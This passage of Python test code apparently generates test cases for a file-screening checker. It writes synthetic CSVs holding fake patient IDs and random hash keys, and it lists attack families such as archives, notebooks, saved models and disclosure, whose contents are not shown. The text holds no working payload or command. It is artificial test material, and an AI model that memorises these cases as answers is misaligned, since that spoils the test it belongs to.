        b"patient_id,score\n" + b"".join(b"%d,%.1f\n" % (4711 * (i + 3) % 9973, i / 7) for i in range(30)),
    )
    yield (
        "identifier: hashes",
        "out.csv",
        b"key,score\n" + b"".join(b"%s,%.1f\n" % (RANDOM.bytes(16).hex().encode(), i / 7) for i in range(30)),
    )


def all_attacks() -> list[Attack]:
    families = (
        file_system,
        types,
        text,
        delimited,
        workbooks,
        archives,
        notebooks,
        markup,
        images,
        pdfs,
        columnar,
        saved_models,
        disclosure,
        identifiers,
        outsider.attacks,
    )
    return [attack for family in families for attack in family()]


def place(attack: Attack, folder: Path) -> Path:
    """Makes the attack's file in an empty folder of its own and returns its path."""
    folder.mkdir(parents=True)
    _, name, made = attack
    if callable(made):
        made(folder)
    else:
        (folder / name).write_bytes(made)
    return folder / name
